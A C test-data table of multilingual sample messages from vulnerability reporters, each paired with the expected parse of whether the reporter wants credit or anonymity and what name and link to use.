	{ "Ik gebruik liever anoniem account-beheer, maar noem mij als Sanne Bos.", TRUE, FALSE, "Sanne Bos", NULL },
	/* Portuguese: no need to be credited, do not put my name */
	{ "Não precisamos de ser mencionados no comunicado.", TRUE, TRUE, NULL, NULL },
	{ "Agradeço, mas peço que não ponham o meu nome no aviso.", TRUE, TRUE, NULL, NULL },
	/* (1522) a quoted name after the credits' noun as a label, or after a
	 * wish that the team or the name appear, in pt, es, fr, it; a quoted
	 * message or file after a wish about something else is none */
	{ "Quanto a agradecimentos: \"Laboratório Sete Marés\". Sem link.", TRUE, FALSE, "Laboratório Sete Marés", NULL },
	{ "Para os agradecimentos, se for possível, preferimos que o nome da empresa apareça, \"Cortiça Digital Lda\".", TRUE, FALSE, "Cortiça Digital Lda", NULL },
	{ "Si hay agradecimientos, preferimos que aparezca el equipo y no personas, \"Equipo Rojo de Tamarugal\".", TRUE, FALSE, "Equipo Rojo de Tamarugal", NULL },
	{ "Agradecimientos: \"Grupo Huemul\".", TRUE, FALSE, "Grupo Huemul", NULL },
	{ "Remerciements : « Équipe Sécurité de Brise-Lames ».", TRUE, FALSE, "Équipe Sécurité de Brise-Lames", NULL },
	{ "Nous préférerions que notre équipe figure dans l'avis, « Cellule Rouge Vauban ».", TRUE, FALSE, "Cellule Rouge Vauban", NULL },
	{ "Ringraziamenti: \"Squadra Sicurezza Tramontana\".", TRUE, FALSE, "Squadra Sicurezza Tramontana", NULL },
	{ "Preferiamo che compaia il nome del gruppo, \"Gruppo Maestrale\".", TRUE, FALSE, "Gruppo Maestrale", NULL },
	{ "Preferimos que apareça a mensagem de erro \"acesso negado\" em vez de um crash.", FALSE, FALSE, NULL, NULL },
	{ "Preferimos que a equipa corrija primeiro o ficheiro \"mount.rs\".", FALSE, FALSE, NULL, NULL },
	{ "Preferiríamos que aparezca un aviso \"permiso denegado\" al montar.", FALSE, FALSE, NULL, NULL },
	{ "Nous préférons que le conteneur affiche « Permission refusée » au lieu de planter.", FALSE, FALSE, NULL, NULL },
	{ "Preferiamo che il team veda prima il file \"config.toml\", poi decidete.", FALSE, FALSE, NULL, NULL },
	{ "Sem créditos, por favor; basta corrigir.", FALSE, FALSE, NULL, NULL },
	/* (1523) a joke about the credit taken back: the request read afresh
	 * after "Kidding." / "Just kidding," / "jk." / "Joking aside:" /
	 * "Seriously though,"; a name with no framing after it must be marked
	 * or judged fine; "no kidding" inside a sentence takes nothing back */
	{ "If there's a hall of fame, credit my cat, obviously. Kidding. Iris Moen, https://irismoen.example", TRUE, FALSE, "Iris Moen", "https://irismoen.example" },
	{ "Credit: if you want, put my dog in the advisory. Just kidding, Ruth Park is fine.", TRUE, FALSE, "Ruth Park", NULL },
	{ "For the credit, if you like, list my cat as co-author. jk. I am Ruth Park, https://rpark.example.", TRUE, FALSE, "Ruth Park", "https://rpark.example" },
	{ "Re credit: if there is a hall of fame, my cat deserves it. Joking aside: Omar Quist, https://oq.example.", TRUE, FALSE, "Omar Quist", "https://oq.example" },
	{ "Re credit, if you like, the real hero is my coffee machine. Seriously though, credit me as Omar Quist.", TRUE, FALSE, "Omar Quist", NULL },
	{ "If you credit people, my cat did all the work. Kidding. Docker Desktop 4.30 is what I ran.", FALSE, FALSE, NULL, NULL },
	{ "No kidding, the exploit works every time, Docker Desktop included.", FALSE, FALSE, NULL, NULL },
	{ "If you credit people, my cat did all the work. No kidding, Docker Desktop falls over every time.", FALSE, FALSE, NULL, NULL },
	{ "If you credit people, my cat did all the work. I'm not kidding: Docker Desktop is affected too.", FALSE, FALSE, NULL, NULL },
	/* (1611, 1581, 1584) a quoted name after a verb of naming, the
	 * sentence's condition the advisory or its publication; a quoted
	 * message for the docs or a condition about something else is none */
	{ "If you credit finders in the advisory, please name \"Kestrel Harbour Red Team\" and link https://kestrelharbour.example/red.", TRUE, FALSE,
	  "Kestrel Harbour Red Team", "https://kestrelharbour.example/red" },
	{ "If this makes it into an advisory you can mention \"Larchfield Data Services\".", TRUE, FALSE, "Larchfield Data Services", NULL },
	{ "Wenn Sie dazu einen Sicherheitshinweis veröffentlichen, erwähnen Sie bitte \u201eRechenzentrum Oberau\u201c.", TRUE, FALSE, "Rechenzentrum Oberau", NULL },
	{ "Sollte es ein Advisory geben: bitte nennen Sie \"Netzbetrieb Stadtwerke Kellbach\".", TRUE, FALSE, "Netzbetrieb Stadtwerke Kellbach", NULL },
	{ "Si publican un aviso, pueden mencionar a la \u00abOficina de Sistemas de Valdeyeguas\u00bb.", TRUE, FALSE, "Oficina de Sistemas de Valdeyeguas", NULL },
	{ "Se publicarem um aviso, podem citar \"Núcleo de Redes da Escola Ponte Velha\".", TRUE, FALSE, "Núcleo de Redes da Escola Ponte Velha", NULL },
	{ "Si vous publiez un avis, vous pouvez citer \u00ab Service informatique de Roche-Guyon \u00bb.", TRUE, FALSE, "Service informatique de Roche-Guyon", NULL },
	{ "Se pubblicate un avviso, potete citare \"Ufficio Reti di Valmora\".", TRUE, FALSE, "Ufficio Reti di Valmora", NULL },
	{ "If you publish a fix, you could mention \"EPERM on bind\" in the docs so people can find it.", FALSE, FALSE, NULL, NULL },
	{ "If the sandbox starts, please name \"snapshot-7\" as the image and run it again.", FALSE, FALSE, NULL, NULL },
	{ "Wenn Sie das Advisory schreiben, nennen Sie bitte die Fehlermeldung \"Zugriff verweigert\" im Text.", FALSE, FALSE, NULL, NULL },
	/* (1581) a department's name starting with the acronym IT is a name;
	 * the pronoun "It" after the request is none */
	{ "Please credit \"IT Security Team of Larchfield Council\".", TRUE, FALSE, "IT Security Team of Larchfield Council", NULL },
	{ "Bitte nennen Sie \"IT-Betrieb der Stadtwerke Kellbach\".", TRUE, FALSE, "IT-Betrieb der Stadtwerke Kellbach", NULL },
	{ "Credit: It's fine either way, we do not mind.", FALSE, FALSE, NULL, NULL },
	/* (1600) a formal notice's bare "Credit" heading line, its own
	 * paragraph, the names, the group and the link on the next line; a
	 * sentence about cloud credits under such a heading is none */
	{ "Impact\nThe copy follows the link.\n\nCredit\nMarta Ilves and Ott Kask, Harbour Lab, University of Tartu (https://harbourlab.example)\n\nContact: lab@harbourlab.example\n",
	  TRUE, FALSE, "Marta Ilves and Ott Kask, Harbour Lab, University of Tartu", "https://harbourlab.example" },
	{ "Results\nBoth runs leaked the file.\n\nAcknowledgements\nPriya Raman, Northgate Security Research\n",
	  TRUE, FALSE, "Priya Raman, Northgate Security Research", NULL },
	{ "Billing\nWe were charged twice.\n\nCredit\nThe free tier credit ran out after the second run, see the invoice.\n\nThanks\n",
	  FALSE, FALSE, NULL, NULL },
	/* round 26: Norwegian, Swedish, Persian, a conditional English request */
	{ "Jeg vil gjerne krediteres som Ingrid Solberg (https://ingrid.example).", TRUE, FALSE,
	  "Ingrid Solberg", "https://ingrid.example" },
	{ "Jag vill helst förbli anonym.", TRUE, TRUE, NULL, NULL },
	/* "no need credit" as people writing English as a second language say
	 * it; "no need to mention" and cloud credits are something else */
	{ "No need any credit for me, just fix it please.", TRUE, TRUE, NULL, NULL },
	{ "Thanks for reading. Don't need credit.", TRUE, TRUE, NULL, NULL },
	{ "There is no need to mention that it runs on a Mac.", FALSE, FALSE, NULL, NULL },
	{ "You don't need cloud credits to reproduce it.", FALSE, FALSE, NULL, NULL },
	{ "لطفاً در advisory نام من را به صورت «Dariush Karimi» با لینک https://github.com/dk ذکر کنید.",
	  TRUE, FALSE, "Dariush Karimi", "https://github.com/dk" },
	{ "If you credit reporters, please use Lena Hoffmann.\n\nLena", TRUE, FALSE, "Lena Hoffmann", NULL },
	/* (#3) a bare "If you credit," and the word for the name before it;
	 * Arabic asks with the name after "as"/"to"; a lower-case field name,
	 * a non-credit "please use" and a declined naming are none */
	{ "If you credit, please use the handle \"Quillback\" only, no real name.", TRUE, FALSE, "Quillback", NULL },
	{ "If you credit it, please use my nickname Tarn7.", TRUE, FALSE, "Tarn7", NULL },
	{ "If you credit, please use the handle field of the form.", FALSE, FALSE, NULL, NULL },
	{ "If you mention it, please use the latest build.", FALSE, FALSE, NULL, NULL },
	{ "يرجى ذكر اسمي كـ Sandpiper في الإعلان.", TRUE, FALSE, "Sandpiper", NULL },
	{ "أرجو أن تنسبوا الاكتشاف إلى Night Heron.", TRUE, FALSE, "Night Heron", NULL },
	{ "يرجى عدم ذكر اسمي في الإعلان.", FALSE, FALSE, NULL, NULL },
	{ "أرجو أن ترسلوا التقرير إلى the team.", FALSE, FALSE, NULL, NULL },
	{ "Noem mij als Fleur Jansen.\nGroet,\nFleur", TRUE, FALSE, "Fleur Jansen", NULL },
	{ "Proszę o podanie mnie jako Kasia Nowak.", TRUE, FALSE, "Kasia Nowak", NULL },
	/* round 27: Slovak, Czech, Swahili */
	{ "Prosím, uveďte ma v poďakovaní ako Zuzana Horváthová, https://zhorvath.example\n",
	  TRUE, FALSE, "Zuzana Horváthová", "https://zhorvath.example" },
	{ "Uveďte mě prosím jako Petr Novák.", TRUE, FALSE, "Petr Novák", NULL },
	{ "Chcem zostať v anonymite.", TRUE, TRUE, NULL, NULL },
	{ "Tafadhali nitaje kama Amani Otieno.", TRUE, FALSE, "Amani Otieno", NULL },
	{ "Pakilagay po ako sa credits bilang Mara Santos (https://msantos.example).", TRUE, FALSE, "Mara Santos", "https://msantos.example" },
	{ "Podem me creditar como Tiago Alves (https://tiago.example).", TRUE, FALSE, "Tiago Alves", "https://tiago.example" },
	{ "Credit: ACME Red Team\n\nThanks", TRUE, FALSE, "ACME Red Team", NULL },
	{ "I'd like to be credited as \"J. Smith\" - https://jsmith.example", TRUE, FALSE, "J. Smith", "https://jsmith.example" },
	{ "For the advisory, please credit \"Ines Varga, Lumengrove Security\" with a\nlink to https://lumengrove.example/security.",
	  TRUE, FALSE, "Ines Varga, Lumengrove Security", "https://lumengrove.example/security" },
	{ "Acknowledgment: Kim Lee, https://x.com/kimlee", TRUE, FALSE, "Kim Lee", "https://x.com/kimlee" },
	{ "If you publish an advisory, please credit Tomás Ferreira\n(https://x.com/tferreira_sec).",
	  TRUE, FALSE, "Tomás Ferreira", "https://x.com/tferreira_sec" },
	{ "For the advisory, please list me as Mia Wong <https://mia.example>", TRUE, FALSE, "Mia Wong", "https://mia.example" },
	{ "If you credit reporters, please mention me as Jürgen Weiß (no link\nneeded).", TRUE, FALSE, "Jürgen Weiß", NULL },
	{ "Credit: Yusuf Aydın (Tessera Labs), https://tessera-labs.example/research", TRUE, FALSE,
	  "Yusuf Aydın (Tessera Labs)", "https://tessera-labs.example/research" },
	{ "A mention would be nice:\nSven Aalto, github.com/saalto", TRUE, FALSE, "Sven Aalto", "https://github.com/saalto" },
	{ "Bitte nennen Sie mich als Jana Novak.", TRUE, FALSE, "Jana Novak", NULL },
	/* issue #3: a "## Credit" heading over its condition and the name
	 * after a colon; the link said not to be needed ends the name */
	{ "## Credit\n\nIf you thank finders: Nadia Okafor (Brightwell Labs)", TRUE, FALSE,
	  "Nadia Okafor (Brightwell Labs)", NULL },
	{ "### Acknowledgements\n\nWhen you publish: Tom Berg, https://tberg.example", TRUE, FALSE,
	  "Tom Berg", "https://tberg.example" },
	{ "Please credit Ines Varga, the URL isn't necessary.", TRUE, FALSE, "Ines Varga", NULL },
	{ "I'd like credit as Jane Roe, https://roe.example", TRUE, FALSE, "Jane Roe", "https://roe.example" },
	{ "Credit goes to the Foo Security Team.", TRUE, FALSE, "Foo Security Team", NULL },
	{ "Credits: Ana Lima (@analima)", TRUE, FALSE, "Ana Lima", NULL },
	{ "Merci de me créditer comme Jean Dupont.", TRUE, FALSE, "Jean Dupont", NULL },
	{ "Por favor, acredítenme como Carlos Ruiz (https://github.com/cruiz).", TRUE, FALSE, "Carlos Ruiz", "https://github.com/cruiz" },
	{ "クレジット: 佐藤 陽翔 (https://github.com/hsato)", TRUE, FALSE, "佐藤 陽翔", "https://github.com/hsato" },
	/* a URL in full-width parentheses, and one followed by kana or a
	 * full stop with no space: the URL ends there */
	{ "クレジット: 高橋 美咲（https://misaki.example/about）でお願いします。", TRUE, FALSE,
	  "高橋 美咲", "https://misaki.example/about" },
	{ "크레딧: 김 서연 https://seoyeon.example에 링크해 주세요.", TRUE, FALSE, "김 서연",
	  "https://seoyeon.example" },
	/* issue #3: Japanese, Korean and Chinese say what the name is for
	 * first, then the name in brackets or quotes, then the asking; a
	 * namespace's name in brackets is none */
	{ "謝辞には「Haruka Mori (https://hmori.example)」と記載していただけると嬉しいです。", TRUE, FALSE,
	  "Haruka Mori", "https://hmori.example" },
	{ "권고문에 이름을 넣어 주신다면 \"Jiwoo Han\"으로 부탁드립니다.", TRUE, FALSE, "Jiwoo Han", NULL },
	{ "公告中的名字请写「Li Wei (https://liwei.example)」。", TRUE, FALSE, "Li Wei", "https://liwei.example" },
	{ "名前空間「Tenant A」でお願いした処理が別のテナントで動きました。", FALSE, FALSE, NULL, NULL },
	{ "ログの名前は「Build Agent」と表示されます。", FALSE, FALSE, NULL, NULL },
	{ "Please attribute this to Lee Chan, https://lee.example", TRUE, FALSE, "Lee Chan", "https://lee.example" },
	{ "Name for the advisory: Ola Nordmann", TRUE, FALSE, "Ola Nordmann", NULL },
	{ "Happy to be credited as Mo Salah.", TRUE, FALSE, "Mo Salah", NULL },
	{ "Please credit: Kestrel IR (https://kestrel-ir.example)", TRUE, FALSE, "Kestrel IR", "https://kestrel-ir.example" },
	{ "**Credit:** Wei Zhang, https://github.com/wzhang", TRUE, FALSE, "Wei Zhang", "https://github.com/wzhang" },
	{ "Credit, if any: Priya N, https://github.com/priyan", TRUE, FALSE, "Priya N", "https://github.com/priyan" },
	{ "## Credit\n\n**Mateo Ruiz** ([@mruiz](https://github.com/mruiz))\n", TRUE, FALSE, "Mateo Ruiz", "https://github.com/mruiz" },
	{ "Credit as \"sl4te\" please, no link.", TRUE, FALSE, "sl4te", NULL },
	{ "I do not wish to be credited.", TRUE, TRUE, NULL, NULL },
	{ "Credit: none needed.", TRUE, TRUE, NULL, NULL },
	{ "Credit: anonymous", TRUE, TRUE, NULL, NULL },
	{ "Please keep me anonymous in any advisory.", TRUE, TRUE, NULL, NULL },
	{ "I'd prefer to remain anonymous.", TRUE, TRUE, NULL, NULL },
	{ "Please don't credit me by name; \"reported anonymously\" is fine.", TRUE, TRUE, NULL, NULL },
	{ "\xe8\xaf\xb7\xe4\xb8\x8d\xe8\xa6\x81\xe5\x9c\xa8\xe5\x85\xac\xe5\x91\x8a\xe4\xb8\xad\xe6\x8f\x90\xe5\x8f\x8a\xe6\x88\x91\xe7\x9a\x84\xe5\x90\x8d\xe5\xad\x97", TRUE, TRUE, NULL, NULL },
	{ "we would appreciate being acknowledged\nas \"Priya Raman and Tomasz Wielgosz (University of Eastmoor)\".",
	  TRUE, FALSE, "Priya Raman and Tomasz Wielgosz (University of Eastmoor)", NULL },
	{ "V\xc4\x83 rog s\xc4\x83 m\xc4\x83 men\xc8\x9biona\xc8\x9bi \xc3\xaen advisory ca Andrei Popescu\n(https://andreipopescu.example).",
	  TRUE, FALSE, "Andrei Popescu", "https://andreipopescu.example" },
	{ "Si lo public\xc3\xa1is, me gustar\xc3\xad" "a aparecer como Ana Ruiz (https://anaruiz.example).",
	  TRUE, FALSE, "Ana Ruiz", "https://anaruiz.example" },
	{ "J'aimerais appara\xc3\xaetre comme Paul Martin.", TRUE, FALSE, "Paul Martin", NULL },
	/* round 13: the name on the line after "please credit:"; "For the credit please write:" */
	{ "If you publish an advisory, please credit:\nHanna Lindqvist, Ostraby Lab - https://github.com/hl-example\n",
	  TRUE, FALSE, "Hanna Lindqvist, Ostraby Lab", "https://github.com/hl-example" },
	{ "For the credit please write: Kasia Wrona, https://github.com/kw-example", TRUE, FALSE, "Kasia Wrona",
	  "https://github.com/kw-example" },
	/* round 14: Chinese "以「NAME」署名", Russian "прошу указать так:" */
	{ "\xe8\xab\x8b\xe5\x9c\xa8\xe5\xae\x89\xe5\x85\xa8\xe5\x85\xac\xe5\x91\x8a\xe4\xb8\xad\xe4\xbb\xa5"
	  "\xe3\x80\x8c\xe6\x9e\x97\xe8\x82\xb2\xe5\xbb\xb7\xe3\x80\x8d\xe7\xbd\xb2\xe5\x90\x8d\xef\xbc\x8c"
	  "https://github.com/yuting-lin \xe3\x80\x82", TRUE, FALSE,
	  "\xe6\x9e\x97\xe8\x82\xb2\xe5\xbb\xb7", "https://github.com/yuting-lin" },
	{ "Благодарность в бюллетене прошу указать так: Олег Смирнов\n(https://olegsmirnov.example).",
	  TRUE, FALSE, "Олег Смирнов", "https://olegsmirnov.example" },
	/* round 17: "If you credit this, please use", Malay, a Mastodon handle */
	{ "If you credit this, please use \"Tobias Wendt\" and link\nhttps://github.com/twendt-sec\n",
	  TRUE, FALSE, "Tobias Wendt", "https://github.com/twendt-sec" },
	{ "Jika boleh, sila kreditkan saya sebagai Nurul Aina Hashim\n(https://github.com/nurulaina-sec).",
	  TRUE, FALSE, "Nurul Aina Hashim", "https://github.com/nurulaina-sec" },
	{ "Credit: Piotr Sadowski (@psadowski@infosec.example on Mastodon)", TRUE, FALSE,
	  "Piotr Sadowski", "@psadowski@infosec.example" },
	{ "Tolong jangan sebut nama saya dalam advisori.", TRUE, TRUE, NULL, NULL },
	/* round 20: a qualified "Credit line", Vietnamese, Greek, Hungarian */
	{ "Credit line for the advisory, if you write one:\nMarta Kowalczyk, https://northquay.example/~marta\n",
	  TRUE, FALSE, "Marta Kowalczyk", "https://northquay.example/~marta" },
	{ "Nếu có thể, xin ghi công cho tôi trong bản tin bảo mật với tên Nguyễn Thị Lan, https://github.com/ntlan-sec",
	  TRUE, FALSE, "Nguyễn Thị Lan", "https://github.com/ntlan-sec" },
	{ "Παρακαλώ αναφέρετέ με στην ανακοίνωση ως Ελένη Παπαδοπούλου,\nhttps://github.com/epapado\n",
	  TRUE, FALSE, "Ελένη Παπαδοπούλου", "https://github.com/epapado" },
	{ "Kérem, ne tüntessék fel a nevemet a közleményben.", TRUE, TRUE, NULL, NULL },
	/* the request in other words of the same languages (#3): Chinese
	 * with full-width punctuation, Slovene and Polish with the pronoun
	 * first, a German wish for a mention, Galician */
	{ "\xe8\x87\xb4\xe8\xb0\xa2\xe8\xaf\xb7\xe7\x94\xa8 Zhang Min\xef\xbc\x8c\xe4\xb8\xbb\xe9\xa1\xb5\xef\xbc\x9a"
	  "https://zhangmin.example", TRUE, FALSE, "Zhang Min", "https://zhangmin.example" },
	{ "Prosim, omenite me v zahvalah kot Luka Novak (https://lnovak.example).", TRUE, FALSE, "Luka Novak",
	  "https://lnovak.example" },
	{ "W razie publikacji mnie proszę wymieńcie jako Ewa Nowak.", TRUE, FALSE, "Ewa Nowak", NULL },
	/* (#3) Polish with where the mention goes between the object and
	 * "jako", the name wrapped onto the next line, the writer's name or
	 * team as the object; and the declines told as a need or a wish
	 * (what is not about naming the writer stays no request) */
	{ "Jeśli można, proszę o wymienienie mnie w biuletynie bezpieczeństwa jako Zofia\nKamińska (https://zkaminska.example).",
	  TRUE, FALSE, "Zofia Kamińska", "https://zkaminska.example" },
	{ "Proszę o podanie mojego imienia i nazwiska w podziękowaniach jako Piotr Zając.", TRUE, FALSE,
	  "Piotr Zając", NULL },
	{ "Proszę o uwzględnienie nas w komunikacie jako Zespół Sowa (https://sowa.example).", TRUE, FALSE,
	  "Zespół Sowa", "https://sowa.example" },
	{ "Wymieńcie nas w ogłoszeniu jako Grupa Lis.", TRUE, FALSE, "Grupa Lis", NULL },
	{ "Nie muszę być wymieniony w komunikacie.", TRUE, TRUE, NULL, NULL },
	{ "Proszę mnie nie wymieniać w ogłoszeniu.", TRUE, TRUE, NULL, NULL },
	{ "Nie potrzebuję żadnych podziękowań.", TRUE, TRUE, NULL, NULL },
	{ "Nie musicie nas wymieniać z nazwy.", TRUE, TRUE, NULL, NULL },
	{ "Proszę o podanie terminu poprawki jako daty w komunikacie.", FALSE, FALSE, NULL, NULL },
	{ "Nie muszę być obecny przy wdrażaniu poprawki.", FALSE, FALSE, NULL, NULL },
	{ "Nie chcę być nachalny, ale proszę o odpowiedź.", FALSE, FALSE, NULL, NULL },
	{ "Über eine Erwähnung im Advisory freue ich mich: Lena Vogt, https://lvogt.example", TRUE, FALSE,
	  "Lena Vogt", "https://lvogt.example" },
	{ "Se publicades un aviso, podedes citarme como Uxía Castro.", TRUE, FALSE, "Uxía Castro", NULL },
	/* ... and the wish not to be named */
	{ "Prosim, ne navajajte mojega imena v obvestilu.", TRUE, TRUE, NULL, NULL },
	{ "Prefiro que publiquedes o aviso sen o meu nome.", TRUE, TRUE, NULL, NULL },
	/* a name someone else was given is no request */
	{ "Die Nennung des Autors im Changelog fehlt.", FALSE, FALSE, NULL, NULL },
	/* round 22: Turkish, the name before "olarak" and the verb last */
	{ "Duyuruda adımın \"Emre Yıldırım\" olarak geçmesini rica ederim (https://emreyildirim.example).",
	  TRUE, FALSE, "Emre Yıldırım", "https://emreyildirim.example" },
	{ "Lütfen beni Ayşe Demir olarak anın, https://ayse.example", TRUE, FALSE, "Ayşe Demir", "https://ayse.example" },
	{ "Lütfen adımı belirtmeyin.", TRUE, TRUE, NULL, NULL },
	/* filler between the request and the name is not the name */
	{ "Credit: yes please, as kaito_r\n", TRUE, FALSE, "kaito_r", NULL },
	{ "if you credit me pls use nullbyte_nomad, https://nullbyte.example", TRUE, FALSE, "nullbyte_nomad",
	  "https://nullbyte.example" },
	{ "Credit: Pavel Nov\xc3\xa1k, please, no link.", TRUE, FALSE, "Pavel Nov\xc3\xa1k", NULL },
	{ "She would like to be credited in the advisory as \"Ingrid Solberg\", with her page.", TRUE, FALSE,
	  "Ingrid Solberg", NULL },
	{ "Please credit the team rather than individuals:\n\"Ironclad Red Team\" (https://red.example).",
	  TRUE, FALSE, "Ironclad Red Team", "https://red.example" },
	{ "\xd0\x9f\xd1\x80\xd0\xbe\xd1\x88\xd1\x83 \xd0\xb2\xd0\xba\xd0\xb0\xd0\xb7\xd0\xb0\xd1\x82\xd0\xb8 "
	  "\xd0\xbc\xd0\xb5\xd0\xbd\xd0\xb5 \xd0\xb2 \xd0\xbf\xd0\xbe\xd0\xb4\xd1\x8f\xd0\xba\xd0\xb0\xd1\x85 "
	  "\xd1\x8f\xd0\xba \xd0\x9e\xd0\xbb\xd0\xb5\xd0\xbd\xd0\xb0 \xd0\x9a\xd0\xbe\xd0\xb2\xd0\xb0\xd0\xbb\xd0\xb5\xd0\xbd\xd0\xba\xd0\xbe.",
	  TRUE, FALSE, "\xd0\x9e\xd0\xbb\xd0\xb5\xd0\xbd\xd0\xb0 \xd0\x9a\xd0\xbe\xd0\xb2\xd0\xb0\xd0\xbb\xd0\xb5\xd0\xbd\xd0\xba\xd0\xbe", NULL },
	{ "Credit: \"Kim Minjun (https://minjun.example)\" please.", TRUE, FALSE, "Kim Minjun", "https://minjun.example" },
	/* a name that only looks like filler stays whole */
	{ "Please credit Sure Kamau (https://sk.example).", TRUE, FALSE, "Sure Kamau", "https://sk.example" },
	/* round 28: a task-list item with the label in bold, a firm's formal
	 * wording, Lithuanian */
	{ "- [x] **Credit**: Priya Nandakumar, https://priya.example\n", TRUE, FALSE,
	  "Priya Nandakumar", "https://priya.example" },
	{ "We would appreciate acknowledgement of Halden Security Labs (https://halden-labs.example) in the advisory.",
	  TRUE, FALSE, "Halden Security Labs", "https://halden-labs.example" },
	{ "Jei pranešimas pasitvirtins, prašau paminėti mane kaip Tomas Vaitkus (https://tvaitkus.example).",
	  TRUE, FALSE, "Tomas Vaitkus", "https://tvaitkus.example" },
	/* (1680, 1673, 1676, 1695) Lithuanian and Latvian asks with the name
	 * after a colon or the pronoun before the verb, Basque, Albanian, a
	 * condition between "Благодарность:" and the name; the same verbs
	 * about something else, a negated ask and a lower-case word after
	 * "si" are none */
	{ "Jeigu rašysite pranešimą, prašome paminėti: Rūta Petrauskienė (https://rpetrauskiene.example).",
	  TRUE, FALSE, "Rūta Petrauskienė", "https://rpetrauskiene.example" },
	{ "Paminėkite mane padėkose: Darius Žukauskas", TRUE, FALSE, "Darius Žukauskas", NULL },
	{ "Mane galite paminėti kaip Lina Jonaitė, https://ljonaite.example", TRUE, FALSE, "Lina Jonaitė",
	  "https://ljonaite.example" },
	{ "Norėčiau būti paminėtas saugumo pranešime kaip Mantas Rimkus.", TRUE, FALSE, "Mantas Rimkus", NULL },
	{ "Lūdzu, pieminiet mani paziņojumā kā Ilze Kalniņa.", TRUE, FALSE, "Ilze Kalniņa", NULL },
	{ "Prašau paminėti pataisymą pakeitimų sąraše: DNS talpykla atskirta.", FALSE, FALSE, NULL, NULL },
	{ "Prašau nurodyti: Ubuntu 24.04 ar 22.04?", FALSE, FALSE, NULL, NULL },
	{ "Ja tas ir iespējams, mūs pieminiet kā Zaļā Komanda (https://zala.example).", TRUE, FALSE,
	  "Zaļā Komanda", "https://zala.example" },
	{ "Oharra argitaratzean, mesedez aipa nazazue honela: Mikel Agirre, https://github.com/magirre-sec",
	  TRUE, FALSE, "Mikel Agirre", "https://github.com/magirre-sec" },
	{ "Izen honekin aipatu gaitzazue mesedez: Bilboko Segurtasun Taldea", TRUE, FALSE,
	  "Bilboko Segurtasun Taldea", NULL },
	{ "Nire izena honela jar dezakezue: Itziar Goikoetxea.", TRUE, FALSE, "Itziar Goikoetxea", NULL },
	{ "Aipatu nazazue zuzenketa argitaratzen duzuenean, mesedez.", FALSE, FALSE, NULL, NULL },
	{ "Nëse e publikoni, mund të na falënderoni në këshillë si Ekipi Shqiponja (https://shqiponja.example).",
	  TRUE, FALSE, "Ekipi Shqiponja", "https://shqiponja.example" },
	{ "Dëshiroj të përmendem si \"Elira Krasniqi\".", TRUE, FALSE, "Elira Krasniqi", NULL },
	{ "Falënderime: Besnik Dervishi, https://bdervishi.example", TRUE, FALSE, "Besnik Dervishi",
	  "https://bdervishi.example" },
	{ "Më shkruani si të doni, jam në dispozicion.", FALSE, FALSE, NULL, NULL },
	{ "Ju lutem mos më përmendni si autor i këtij raporti.", FALSE, FALSE, NULL, NULL },
	{ "Благодарность: если опубликуете бюллетень — Ирина Соколова (https://isokolova.example)",
	  TRUE, FALSE, "Ирина Соколова", "https://isokolova.example" },
	{ "Упомяните меня в бюллетене как Дмитрий Орлов.", TRUE, FALSE, "Дмитрий Орлов", NULL },
	{ "Можете указать нас как Команда Сибирь.", TRUE, FALSE, "Команда Сибирь", NULL },
	{ "Если будете обновлять документацию — упомяните флаг --net-deny.", FALSE, FALSE, NULL, NULL },
	{ "Благодарю вас за быстрый ответ, коллеги из Docker тоже помогли.", FALSE, FALSE, NULL, NULL },
	/* (1721, 1724, 1727, 1731, 1732) Slovene "prosim za zaslugo:",
	 * Mongolian "нэрийг минь ... бичнэ үү:", Maltese "ikkreditawni
	 * bħala", Icelandic "má nefna mig:", Luxembourgish "Fir de Credit:"
	 * with the affiliation kept as in English; a request for something
	 * else, a word not of naming after the label and a lower-case clause
	 * after it are none; "no credit needed" and "do not name me" in these
	 * languages are anonymous, as in the others */
	{ "Prosimo za omembo v obvestilu: Ekipa Triglav, https://triglav-sec.example", TRUE, FALSE,
	  "Ekipa Triglav", "https://triglav-sec.example" },
	{ "Zasluga: Nina Horvat", TRUE, FALSE, "Nina Horvat", NULL },
	{ "Želel bi biti naveden kot Tadej Zupan (https://tzupan.example).", TRUE, FALSE, "Tadej Zupan",
	  "https://tzupan.example" },
	{ "Rada bi bila omenjena v varnostnem obvestilu kot Petra Novak.", TRUE, FALSE, "Petra Novak", NULL },
	{ "Lahko me navedete kot Rok Kranjc.", TRUE, FALSE, "Rok Kranjc", NULL },
	{ "Prosim za odgovor: ali je to že znano?", FALSE, FALSE, NULL, NULL },
	{ "Zaslug ne potrebujem, hvala.", TRUE, TRUE, NULL, NULL },
	{ "Prosim, ne navajajte me v obvestilu.", TRUE, TRUE, NULL, NULL },
	{ "Ne navajajte verzije 0.10.8, ta ni prizadeta.", FALSE, FALSE, NULL, NULL },
	{ "Ne želim biti naveden kot avtor.", FALSE, FALSE, NULL, NULL },
	{ "Миний нэрийг ингэж дурдана уу: Bat-Erdene Ganbold (https://bganbold.example)", TRUE, FALSE,
	  "Bat-Erdene Ganbold", "https://bganbold.example" },
	{ "Талархал: Oyun Enkhbaatar", TRUE, FALSE, "Oyun Enkhbaatar", NULL },
	{ "Намайг ингэж тэмдэглээрэй: Saruul Dorj,\nhttps://github.com/sdorj", TRUE, FALSE, "Saruul Dorj",
	  "https://github.com/sdorj" },
	{ "Нэрийг минь бүү дурдаарай: зүгээр л засвар хийгээрэй.", TRUE, TRUE, NULL, NULL },
	{ "Талархал хэрэггүй, зүгээр засаарай.", TRUE, TRUE, NULL, NULL },
	{ "Талархал: танай багт баярлалаа.", FALSE, FALSE, NULL, NULL },
	{ "Jekk tistgħu, semmuni fl-advisory bħala Maria Borg.", TRUE, FALSE, "Maria Borg", NULL },
	{ "Nixtieq nissemma bħala Karl Farrugia, https://kfarrugia.example", TRUE, FALSE, "Karl Farrugia",
	  "https://kfarrugia.example" },
	{ "Kreditu: Team Xlendi", TRUE, FALSE, "Team Xlendi", NULL },
	{ "M'hemmx bżonn kreditu, grazzi.", TRUE, TRUE, NULL, NULL },
	{ "Please la tikkreditawnix, m'hemmx bżonn.", TRUE, TRUE, NULL, NULL },
	{ "Semmuni bħala kuntatt jekk għandkom mistoqsijiet.", FALSE, FALSE, NULL, NULL },
	{ "Kreditu: mhux bżonn, grazzi.", TRUE, TRUE, NULL, NULL },
	{ "Vinsamlegast nefnið mig í tilkynningunni sem Jón Guðmundsson.", TRUE, FALSE, "Jón Guðmundsson", NULL },
	{ "Þið getið nefnt okkur sem Hópur Norðurljósa, https://nordurljos.example", TRUE, FALSE,
	  "Hópur Norðurljósa", "https://nordurljos.example" },
